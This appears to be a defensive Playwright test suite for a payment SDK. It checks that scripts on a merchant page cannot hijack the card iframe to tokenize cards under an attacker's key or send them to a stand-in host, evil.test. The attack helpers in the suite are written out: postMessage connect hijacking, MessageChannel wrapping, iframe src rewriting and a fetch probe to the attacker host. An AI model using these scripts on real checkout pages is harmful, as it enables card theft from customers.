/**
 * Issue 16, threat T1 in real Chromium: a script on the merchant page tries to take over the
 * genuine card frame, to get a token of the customer's card in its own account or to send the card
 * to its own server. Each attack ends with no token in the attacker's account, no request to the
 * attacker's server, and a `loaderror` (frame_takeover) or a locked frame, or the genuine flow
 * still working where the attack changed nothing (decision 0009).
 *
 * Origins: the merchant page, the CDN (frames with their header CSP, whose connect-src allows
 * anything, as a careless CDN would), the same CDN without any connect-src header, the real vault,
 * and the attacker's server as `http://evil.test:<port>` (mapped to 127.0.0.1; not a loopback name,
 * so not one of the development build's vault origins).
 *
 * Needs `node scripts/build.mjs` first (dist/ and dist-server/).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureDemoAccount, silentSink, startServer, type RunningServer } from '../../server/src/index';
import { launchChromium, serve, VERSION, type LaunchedBrowser, type TestServer } from './harness';

const NUMBER = '4242424242424242';

/**
 * Runs on the merchant page before anything else, passively: records what a page script can see
 * (the protocol version in `hello`), and the attacker's helpers every attack below uses.
 */
const RECORDER = `
window.__attack = { got: [], version: 0 };
addEventListener('message', function (e) {
  if (e.data && e.data.source === 'cardvault' && e.data.type === 'hello') window.__attack.version = e.data.version;
});
/** Posts a connect of the attacker's choosing to a frame window, on a port the attacker holds. */
window.__attackConnect = function (win, channel, version, options, frameOrigin) {
  var ch = new (window.__OriginalMessageChannel || MessageChannel)();
  ch.port1.onmessage = function (e) { window.__attack.got.push(e.data); };
  window.__attack.port = ch.port1;
  window.__attack.channel = channel;
  window.__attack.v = version;
  win.postMessage({ source: 'cardvault', version: version, channel: channel, type: 'connect',
    payload: { sdkVersion: '${VERSION}', protocolVersion: version, options: options } }, frameOrigin, [ch.port2]);
};
/** Asks the frame the attacker connected for a token, with the attacker's own key. */
window.__attackTokenize = function (apiBase, key) {
  var a = window.__attack;
  if (!a.port) return;
  a.port.postMessage({ source: 'cardvault', version: a.v, channel: a.channel, type: 'tokenize',
    payload: { requestId: 'evil', credential: { kind: 'key', value: key }, apiBase: apiBase, timeouts: { request: 10000, total: 20000 } } });
};
window.__OriginalMessageChannel = MessageChannel;
`;

/** An early script (before the SDK): a capture-phase listener that answers every hello itself. */
const EARLY_ANSWER = (options: string) => `
addEventListener('message', function (e) {
  var d = e.data;
  if (!d || d.source !== 'cardvault' || d.type !== 'hello') return;
  window.__attackConnect(e.source, d.channel, d.version, ${options}, e.origin);
}, true);
`;

interface Seen {
  url: string;
  body: string;
}

describe('a page script cannot take over the card frame (issue 16)', () => {
  let chromium: LaunchedBrowser;
  let cdn: TestServer;
  let bareCdn: TestServer;
  let host: TestServer;
  let evil: TestServer;
  let evilOrigin: string;
  let vault: RunningServer;
  let dataDir: string;
  let merchantKey: string;
  let attackerKey: string;
  const requests: Seen[] = [];

  beforeAll(async () => {
    cdn = await serve({ dist: true });
    // The same files from a CDN that sends no connect-src: only the frame's own meta CSP limits it.
    bareCdn = await serve({ dist: true, headers: () => ({ 'Content-Security-Policy': 'frame-ancestors *' }) });
    evil = await serve({
      routes: {
        '/v1/encryption_keys': (_req, res) => {
          res.setHeader('Access-Control-Allow-Origin', '*');
          res.end('{}');
        },
      },
    });
    evilOrigin = evil.origin.replace('127.0.0.1', 'evil.test');
    dataDir = mkdtempSync(join(tmpdir(), 'cardvault-takeover-'));
    vault = await startServer({ port: 0, host: '127.0.0.1', dataDir, log: silentSink });
    merchantKey = (await ensureDemoAccount(vault.vault)).publishableKey;
    const attacker = await vault.vault.createAccount('Attacker');
    attackerKey = (await vault.vault.createApiKey(attacker.id, 'publishable', false)).secret;
    host = await serve({
      routes: {
        '/': (req, res) => {
          const early = new URL(req.url ?? '/', 'http://x').searchParams.get('early');
          res.setHeader('Content-Type', 'text/html; charset=utf-8');
          res.end(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Checkout</title>
<script src="/recorder.js"></script>${early ? `<script src="/early-${early}.js"></script>` : ''}
<script src="${cdn.origin}/v${VERSION}/cardvault.min.js"></script>
</head><body><div id="card"></div></body></html>`);
        },
        '/recorder.js': (_req, res) => void res.end(RECORDER),
        // Answers hello with the attacker's own key (the vault is the real one).
        '/early-own-key.js': (_req, res) => void res.end(EARLY_ANSWER(`{ apiBase: ${JSON.stringify(vault.url)}, credential: { kind: 'key', value: ${JSON.stringify(attackerKey)} } }`)),
        // Answers hello with the merchant's own key and vault (both public): a connect that matches.
        '/early-merchant-key.js': (_req, res) => void res.end(EARLY_ANSWER(`{ apiBase: ${JSON.stringify(vault.url)}, credential: { kind: 'key', value: ${JSON.stringify(merchantKey)} } }`)),
        // Answers hello with the merchant's key and the attacker's server as the API base.
        '/early-foreign-api.js': (_req, res) => void res.end(EARLY_ANSWER(`{ apiBase: ${JSON.stringify(evilOrigin)}, credential: { kind: 'key', value: ${JSON.stringify(merchantKey)} } }`)),
      },
    });
    chromium = await launchChromium({ hostMap: ['evil.test'] });
    chromium.context.on('request', (r) => requests.push({ url: r.url(), body: r.postData() ?? '' }));
  });

  afterAll(async () => {
    await chromium?.close();
    await vault?.close();
    for (const s of [cdn, bareCdn, host, evil]) await s?.close();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  /** Opens the shop (with an early attack script, if any) and mounts the card element; events go to window.__events. */
  async function openShop(early?: string, frameOrigin = cdn.origin): Promise<Page> {
    const page = await chromium.context.newPage();
    await page.goto(host.url(early ? `/?early=${early}` : '/'));
    await page.evaluate(
      ({ pk, apiBase, frameOrigin: fo }) => {
        const w = window as unknown as Record<string, any>;
        w.__events = [];
        w.__cv = w.Cardvault(pk, { apiBase, frameOrigin: fo, locale: 'en', timeouts: { frameLoad: 8000 } });
        w.__el = w.__cv.elements().create('card');
        w.__el.on('ready', () => w.__events.push('ready'));
        w.__el.on('loaderror', (e: { error: { code: string } }) => w.__events.push(`loaderror:${e.error.code}`));
        w.__el.mount('#card');
      },
      { pk: merchantKey, apiBase: vault.url, frameOrigin },
    );
    // The first outcome: ready or loaderror.
    await page.waitForFunction(() => (window as unknown as { __events: string[] }).__events.length > 0, null, { timeout: 30_000 });
    return page;
  }

  const events = (page: Page) => page.evaluate(() => (window as unknown as { __events: string[] }).__events);

  function cardFrame(page: Page, origin = cdn.origin): Frame {
    const f = page.frames().find((fr) => fr.url().startsWith(origin) && fr.url().includes('/frame/card.'));
    if (!f) throw new Error('no card frame');
    return f;
  }

  /** The customer types a card, if the frame lets them. Returns false when the inputs are disabled. */
  async function typeCard(page: Page, origin = cdn.origin): Promise<boolean> {
    const frame = cardFrame(page, origin);
    const number = frame.locator('input[autocomplete="cc-number"]');
    await number.waitFor();
    if (await number.isDisabled()) return false;
    for (const [token, text] of [['cc-number', NUMBER], ['cc-exp', '1234'], ['cc-csc', '123'], ['postal-code', '94107']] as const) {
      const input = frame.locator(`input[autocomplete="${token}"]`);
      if ((await input.count()) === 0) continue;
      await input.click();
      await input.pressSequentially(text, { delay: 5 });
    }
    return true;
  }

  /** The attacker asks for a token with its own key, and waits (bounded) for what comes back. */
  async function attackerTokenize(page: Page): Promise<unknown[]> {
    await page.evaluate(({ api, key }) => (window as unknown as { __attackTokenize(a: string, k: string): void }).__attackTokenize(api, key), { api: vault.url, key: attackerKey });
    await page
      .waitForFunction(() => (window as unknown as { __attack: { got: Array<{ type: string }> } }).__attack.got.some((m) => m.type === 'tokenize-result'), null, { timeout: 6000 })
      .catch(() => undefined);
    return page.evaluate(() => (window as unknown as { __attack: { got: unknown[] } }).__attack.got);
  }

  /** The merchant's own createToken: the token, or `{ error: code }`. */
  const merchantToken = (page: Page) =>
    page.evaluate(async () => {
      const w = window as unknown as Record<string, any>;
      try {
        return await w.__cv.createToken(w.__el);
      } catch (e) {
        return { error: (e as { code?: string }).code };
      }
    });

  const attackerRequests = () => requests.filter((r) => r.url.includes(attackerKey) || r.body.includes(attackerKey));
  const tokensIn = (got: unknown[]) => got.filter((m) => (m as { type?: string; payload?: { ok?: boolean } }).type === 'tokenize-result' && (m as { payload: { ok: boolean } }).payload.ok);

  const lockedInputs = (page: Page, origin = cdn.origin) =>
    cardFrame(page, origin).evaluate(() => [...document.querySelectorAll('input')].every((i) => i.disabled) && document.getElementById('cv-error')?.textContent);

  it('an early capture-phase listener answering hello with its own key is refused; the host fires loaderror, the frame locks', async () => {
    const before = attackerRequests().length;
    const page = await openShop('own-key');
    expect(await events(page)).toEqual(['loaderror:frame_takeover']);
    expect(await lockedInputs(page)).toBe('This field could not load securely.');
    expect(await typeCard(page)).toBe(false);
    const got = await attackerTokenize(page);
    expect(tokensIn(got)).toEqual([]);
    expect(got).toContainEqual(expect.objectContaining({ type: 'failure', payload: { error: expect.objectContaining({ code: 'frame_takeover' }) } }));
    expect(attackerRequests().length).toBe(before);
    await page.close();
  });

  it('an early listener answering hello with the merchant’s own key: the host is refused, fires loaderror, the frame locks', async () => {
    const page = await openShop('merchant-key');
    expect(await events(page)).toEqual(['loaderror:frame_takeover']);
    expect(await lockedInputs(page)).toBe('This field could not load securely.');
    expect(await typeCard(page)).toBe(false);
    const got = await attackerTokenize(page);
    // The attacker's port was told, and a locked frame answers nothing more.
    expect(got).toContainEqual(expect.objectContaining({ type: 'failure' }));
    expect(tokensIn(got)).toEqual([]);
    expect(await merchantToken(page)).toEqual({ error: 'frame_takeover' });
    await page.close();
  });

  it('a late script wrapping MessageChannel and re-attaching the iframe never gets in; the genuine flow still works', async () => {
    const before = attackerRequests().length;
    const page = await openShop();
    expect(await events(page)).toEqual(['ready']);
    await page.evaluate(
      ({ key, api }) => {
        const w = window as unknown as Record<string, any>;
        const Original = window.MessageChannel;
        // Runs inside the SDK's hello handler, before its connect: connect first, with our key.
        (window as unknown as { MessageChannel: unknown }).MessageChannel = function () {
          const iframe = document.querySelector('#card iframe') as HTMLIFrameElement;
          const url = new URL(iframe.src);
          const channel = new URLSearchParams(url.hash.slice(1)).get('channel');
          w.__attack.wrapped = true;
          w.__attackConnect(iframe.contentWindow, channel, w.__attack.version, { apiBase: api, credential: { kind: 'key', value: key } }, url.origin);
          return new Original();
        };
        const iframe = document.querySelector('#card iframe') as HTMLIFrameElement;
        const parent = iframe.parentNode!;
        iframe.remove();
        parent.appendChild(iframe);
      },
      { key: attackerKey, api: vault.url },
    );
    // The reloaded frame greets again; wait until it renders its inputs.
    await page.waitForTimeout(1500);
    expect(await typeCard(page)).toBe(true);
    const got = await attackerTokenize(page);
    expect(tokensIn(got)).toEqual([]);
    expect(attackerRequests().length).toBe(before);
    expect(await events(page)).not.toContain('loaderror:frame_takeover');
    const token = await merchantToken(page);
    expect(token).toMatchObject({ object: 'token', card: { last4: '4242' } });
    await page.close();
  });

  it('an iframe src rewritten with another key: the host is refused and fires loaderror, the frame locks', async () => {
    const before = attackerRequests().length;
    const page = await openShop();
    await page.evaluate(
      ({ key, api }) => {
        const w = window as unknown as Record<string, any>;
        // A late capture listener answers the reloaded frame's hello with the attacker's key.
        addEventListener(
          'message',
          (e) => {
            const d = e.data;
            if (d && d.source === 'cardvault' && d.type === 'hello') w.__attackConnect(e.source, d.channel, d.version, { apiBase: api, credential: { kind: 'key', value: key } }, e.origin);
          },
          true,
        );
        const iframe = document.querySelector('#card iframe') as HTMLIFrameElement;
        iframe.src = /[#&]cred=/.test(iframe.src) ? iframe.src.replace(/cred=[^&]*/, `cred=${key}`) : `${iframe.src}&cred=${key}`;
        const parent = iframe.parentNode!;
        iframe.remove();
        parent.appendChild(iframe);
      },
      { key: attackerKey, api: vault.url },
    );
    await page.waitForFunction(() => (window as unknown as { __events: string[] }).__events.length > 1, null, { timeout: 30_000 }).catch(() => undefined);
    expect(await events(page)).toEqual(['ready', 'loaderror:frame_takeover']);
    expect(await lockedInputs(page)).toBe('This field could not load securely.');
    await typeCard(page);
    const got = await attackerTokenize(page);
    expect(tokensIn(got)).toEqual([]);
    expect(attackerRequests().length).toBe(before);
    await page.close();
  });

  it('a connect naming a foreign API base is refused: no request reaches the attacker’s server; loaderror, locked', async () => {
    const seen = evil.requests.length;
    const page = await openShop('foreign-api');
    expect(await events(page)).toEqual(['loaderror:frame_takeover']);
    expect(await lockedInputs(page)).toBe('This field could not load securely.');
    await typeCard(page);
    // The attacker's port (refused) asks for a token to its own server.
    await page.evaluate(({ api, key }) => (window as unknown as { __attackTokenize(a: string, k: string): void }).__attackTokenize(api, key), { api: evilOrigin, key: merchantKey });
    await page.waitForTimeout(1000);
    expect(evil.requests.length).toBe(seen);
    expect(requests.filter((r) => r.url.startsWith(evilOrigin))).toEqual([]);
    await page.close();
  });

  it('a frame served without its CSP header still talks only to the build’s vaults', async () => {
    const seen = evil.requests.length;
    const page = await openShop(undefined, bareCdn.origin);
    expect(await events(page)).toEqual(['ready']);
    // Rewrite the fragment's API base to the attacker's server, reload, and answer hello with it.
    await page.evaluate(
      ({ key, api }) => {
        const w = window as unknown as Record<string, any>;
        addEventListener(
          'message',
          (e) => {
            const d = e.data;
            if (d && d.source === 'cardvault' && d.type === 'hello') w.__attackConnect(e.source, d.channel, d.version, { apiBase: api, credential: { kind: 'key', value: key } }, e.origin);
          },
          true,
        );
        const iframe = document.querySelector('#card iframe') as HTMLIFrameElement;
        iframe.src = iframe.src.replace(/api=[^&]*/, `api=${encodeURIComponent(api)}`);
        const parent = iframe.parentNode!;
        iframe.remove();
        parent.appendChild(iframe);
      },
      { key: merchantKey, api: evilOrigin },
    );
    await page.waitForFunction(() => (window as unknown as { __events: string[] }).__events.length > 1, null, { timeout: 30_000 }).catch(() => undefined);
    expect(await events(page)).toEqual(['ready', 'loaderror:frame_takeover']);
    // Whatever runs in the frame, its own policy blocks the attacker's server.
    const probe = await cardFrame(page, bareCdn.origin).evaluate(async (url) => {
      try {
        await fetch(`${url}/v1/encryption_keys`, { mode: 'no-cors' });
        return 'fetched';
      } catch {
        return 'blocked';
      }
    }, evilOrigin);
    expect(probe).toBe('blocked');
    await page.waitForTimeout(500);
    expect(evil.requests.length).toBe(seen);
    await page.close();
  });
});
